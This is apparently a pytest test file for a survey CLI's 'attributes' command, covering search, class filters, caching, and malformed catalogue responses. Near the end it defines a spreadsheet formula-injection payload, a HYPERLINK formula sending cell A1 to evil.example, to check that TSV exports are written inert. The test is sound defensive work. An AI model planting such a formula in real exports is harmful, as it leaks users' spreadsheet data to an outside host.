"""`surveyctl attributes`: the whole de-duplicated catalogue, filters, and the shared cache."""

from __future__ import annotations

import csv
import io
import json
import re


def _all_codes(api, classes=None):
    codes = set()
    for page in api.iter_pages(api.get_attributes_page, localization="en_US", classes=classes):
        codes |= {item["qualification_code"] for item in page}
    return codes


def test_lists_every_attribute_of_the_locale_once(api, run_cli):
    result = run_cli("attributes", "--locale", "en_US", "--format", "json")
    codes = [a["qualification_code"] for a in json.loads(result.stdout)]
    assert result.exit_code == 0, result.output
    assert len(codes) == len(set(codes))
    assert set(codes) == _all_codes(api)


def test_class_filter_keeps_only_those_classes(api, run_cli):
    result = run_cli("attributes", "--class", "1", "--format", "json")
    codes = {a["qualification_code"] for a in json.loads(result.stdout)}
    assert codes == _all_codes(api, [1])
    assert codes < _all_codes(api)


def test_an_empty_class_filter_is_a_usage_error(run_cli):
    result = run_cli("attributes", "--class", "")
    assert result.exit_code == 2
    assert "name at least one, or leave the option out" in result.stderr


def test_search_matches_names_questions_and_answers(run_cli):
    result = run_cli("attributes", "--search", "female", "--format", "json")
    found = json.loads(result.stdout)
    assert [a["qualification_code"] for a in found] == [211]


def test_a_search_that_matches_nothing_leaves_stdout_empty_and_says_so_on_stderr(run_cli):
    result = run_cli("attributes", "--search", "no-such-attribute-anywhere")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert "0 attribute(s) in en_US" in result.stderr


def test_a_search_that_matches_nothing_as_tsv_is_the_header_alone(run_cli):
    result = run_cli("attributes", "--search", "no-such-attribute-anywhere", "--format", "tsv")
    assert result.stdout == "code\tname\tquestion\tanswers\n"


def test_the_full_catalogue_is_cached_and_read_back_without_the_service(run_cli, project):
    run_cli("attributes", "--locale", "en_US")
    cached = project / ".surveyctl" / "cache" / "catalog" / "local" / "en_US.json"
    config = project / "surveyctl.yaml"
    # Point the environment at a port nobody listens on: only the cache can answer now.
    config.write_text(re.sub(r"http://[^']+", "http://127.0.0.1:9", config.read_text()))
    again = run_cli("attributes", "--locale", "en_US", "--search", "Gender")
    assert cached.is_file()
    assert again.exit_code == 0, again.output
    assert "What is your gender?" in again.stdout
    assert "local (http://127.0.0.1:9)" in again.stderr


def test_a_class_filtered_list_is_not_cached(run_cli, project):
    run_cli("attributes", "--class", "3")
    assert not (project / ".surveyctl" / "cache" / "catalog" / "local" / "en_US.json").exists()


def test_an_unknown_locale_is_one_sentence(run_cli):
    result = run_cli("attributes", "--locale", "xx_XX")
    assert result.exit_code == 1
    assert "no attribute catalogue for locale 'xx_XX'" in result.stderr


def test_a_catalogue_page_that_is_not_json_is_one_clear_error(project, sandbox, run_cli):
    from ..reconcile.conftest import pointed_at
    from ..reconcile.proxies import Proxy

    class MaintenancePage(Proxy):
        """A gateway answering the catalogue with an HTML page and 200, as some do."""

        def reshape(self, request, answer, headers) -> bytes:
            if not request.path.endswith("/attributes"):
                return answer.content
            headers["Content-Type"] = "text/html"
            return b"<html><body>Down for maintenance</body></html>"

    proxy = MaintenancePage(sandbox.url)
    with pointed_at(project, proxy):
        result = run_cli("attributes", "--locale", "en_US", "--refresh")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1] == (
        f"Error: GET {proxy.url}/buyers/v3/attributes answered 200: the body is not JSON"
    )
    assert "Traceback" not in result.stderr


def test_attributes_whose_codes_are_written_as_text_are_the_same_catalogue(
    api, project, sandbox, run_cli
):
    from ..reconcile.conftest import pointed_at
    from ..reconcile.proxies import Proxy

    class CodesAsText(Proxy):
        """A catalogue writing each qualification_code as text ("211"), as the service writes
        other numbers (public facts: `"Respondent Buyer CPI": "1.30"`)."""

        def reshape(self, request, answer, headers) -> bytes:
            if not request.path.endswith("/attributes") or not answer.ok:
                return answer.content
            items = [
                {**a, "qualification_code": str(a["qualification_code"])} for a in answer.json()
            ]
            return json.dumps(items).encode()

    proxy = CodesAsText(sandbox.url)
    with pointed_at(project, proxy):
        result = run_cli("attributes", "--locale", "en_US", "--format", "json", "--refresh")
    assert result.exit_code == 0, result.output
    assert {a["qualification_code"] for a in json.loads(result.stdout)} == _all_codes(api)


# A question a catalogue could carry (its texts are written by others): a spreadsheet opening
# the export would run it.
FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?q="&A1,"What is your gender?")'


def _tsv_of_a_formula_question(project, sandbox, run_cli, *options: str) -> dict[str, str]:
    """The tsv row of attribute 211 as `attributes` writes it when the catalogue gives its
    question as FORMULA_QUESTION."""
    from ..reconcile.conftest import pointed_at
    from ..reconcile.proxies import Proxy

    class FormulaQuestion(Proxy):
        def reshape(self, request, answer, headers) -> bytes:
            if not request.path.endswith("/attributes") or not answer.ok:
                return answer.content
            items = answer.json()
            for item in items:
                if item["qualification_code"] == 211:
                    for localization in item["localizations"]:
                        localization["text"] = FORMULA_QUESTION
            return json.dumps(items).encode()

    proxy = FormulaQuestion(sandbox.url)
    with pointed_at(project, proxy):
        result = run_cli(
            "attributes", "--search", "gender", "--format", "tsv", "--refresh", *options
        )
    assert result.exit_code == 0, result.output
    rows = csv.DictReader(io.StringIO(result.stdout), dialect="excel-tab")
    return {row["code"]: row for row in rows}["211"]


def test_a_tsv_question_a_spreadsheet_would_run_as_a_formula_is_written_inert(
    project, sandbox, run_cli
):
    row = _tsv_of_a_formula_question(project, sandbox, run_cli)
    assert row["question"] == "'" + FORMULA_QUESTION


def test_a_tsv_question_is_written_as_the_service_gave_it_with_raw_cells(project, sandbox, run_cli):
    row = _tsv_of_a_formula_question(project, sandbox, run_cli, "--raw-cells")
    assert row["question"] == FORMULA_QUESTION


def test_the_help_of_raw_cells_names_tsv_the_one_format_it_changes(run_cli):
    result = run_cli("attributes", "--help")
    assert result.exit_code == 0
    raw_cells = " ".join(result.stdout.split("--raw-cells", 1)[1].split("--", 1)[0].split())
    assert raw_cells.startswith("tsv: write names and questions exactly as the service")
    assert "csv" not in raw_cells
